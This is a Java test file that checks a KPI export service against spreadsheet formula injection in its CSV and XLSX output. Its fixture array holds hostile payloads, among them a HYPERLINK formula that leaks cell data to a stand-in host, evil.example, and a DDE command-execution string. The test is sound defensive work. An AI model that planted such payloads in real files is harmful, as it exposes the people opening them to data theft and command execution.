package com.aftersales.kpi;

import com.aftersales.support.Api;
import com.aftersales.support.CaseBodies;
import com.aftersales.support.Fixtures;
import com.aftersales.support.UnitBodies;
import com.aftersales.support.WarrantyBodies;
import io.quarkus.test.junit.QuarkusTest;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;

import static com.aftersales.support.Api.asCustomer;
import static com.aftersales.support.TestClock.today;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exports never carry a live spreadsheet formula (issue 22): text a customer or staff typed (here a product model) reaches
 * the KPI CSV quoted, with a leading {@code '} when it starts with {@code = + - @}, a tab or a carriage return, also
 * when line breaks hide the formula on a line of its own; the workbook writes such text as text, never as a formula.
 */
@QuarkusTest
class ExportFormulaTest {

    static final String TWO_BREAKS = "X\r\n=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    static final String[] HOSTILE = {TWO_BREAKS, "=1+2", "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"};

    @Test
    void everyCsvCellIsQuotedAndNoCellStartsAFormula() throws Exception {
        String customer = Api.newCustomer(Api.unique("CSV"));
        Fixtures.term(customer, WarrantyBodies.term("COMMERCIAL_VEHICLE"));
        for (String model : HOSTILE) {
            String serial = Fixtures.unit(UnitBodies.unit(customer).productModel(model).delivered(LocalDate.parse("2025-01-10")));
            Fixtures.openCase(CaseBodies.open(customer).type("COMPLAINT").unit(serial, 1000)
                    .failureDate(LocalDate.parse("2025-02-01")).description("电机异响").severity("LOW"));
        }
        String csv = new String(asCustomer(UUID.fromString(customer)).accept("text/csv").header("Accept-Language", "en")
                .queryParam("from", "2025-01-01").queryParam("to", today().toString()).queryParam("kpi", "cases")
                .queryParam("groupBy", "model").get("/api/v1/kpis").then().statusCode(200).extract().asByteArray(),
                StandardCharsets.UTF_8);
        List<List<String>> rows = parse(csv.substring(1));
        assertThat(rows.get(0)).containsExactly("group", "type", "severity", "cases");
        List<String> groups = rows.subList(1, rows.size()).stream().map(r -> r.get(0)).toList();
        for (String model : HOSTILE) {
            // (the service strips a model's leading and trailing white space, so "\t=1" is stored as "=1")
            // A value that starts with a formula character gets the '; one whose formula follows a line break stays one
            // quoted cell, so the formula never starts a cell.
            String stored = model.strip();
            assertThat(groups).contains("=+-@".indexOf(stored.charAt(0)) >= 0 ? "'" + stored : stored);
        }
        assertThat(rows).allSatisfy(r -> assertThat(r).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=")
                .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r")));
        // Every cell is quoted: each line of the file, read as a spreadsheet does, starts with a quote.
        for (String line : csv.substring(1).split("\r\n(?=\")")) {
            assertThat(line).startsWith("\"");
        }
        assertThat(csv).contains("\"X\r\n=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");

        byte[] xlsx = asCustomer(UUID.fromString(customer)).accept(KpiExports.XLSX).queryParam("from", "2025-01-01")
                .queryParam("to", today().toString()).queryParam("groupBy", "model").get("/api/v1/kpis").then().statusCode(200)
                .extract().asByteArray();
        List<String> texts = new ArrayList<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : wb.getSheets().toList()) {
                for (Row row : sheet.read()) {
                    for (Cell cell : row) {
                        if (cell != null) {
                            assertThat(cell.getType()).isNotEqualTo(CellType.FORMULA);
                            assertThat(cell.getFormula()).isNull();
                            texts.add(cell.getText());
                        }
                    }
                }
            }
        }
        assertThat(texts).contains("=1+2", "@SUM(A1)");
    }

    @Test
    void aCellStartingWithATabOrCarriageReturnIsNeutralisedAndNumbersStayNumbers() {
        assertThat(KpiExports.cell("\t=1")).isEqualTo("\"'\t=1\"");
        assertThat(KpiExports.cell("\r\n=1")).isEqualTo("\"'\r\n=1\"");
        assertThat(KpiExports.cell("-12")).isEqualTo("\"'-12\"");
        assertThat(KpiExports.cell(new java.math.BigDecimal("-12.50"))).isEqualTo("\"-12.50\"");
        assertThat(KpiExports.cell(null)).isEqualTo("\"\"");
        assertThat(KpiExports.cell("a\"b")).isEqualTo("\"a\"\"b\"");
    }

    /** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, doubled quotes and line breaks. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char ch = csv.charAt(i);
            if (quoted) {
                if (ch == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (ch == '"') {
                    quoted = false;
                } else {
                    cell.append(ch);
                }
            } else if (ch == '"') {
                quoted = true;
            } else if (ch == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (ch == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(ch);
            }
        }
        return rows;
    }
}
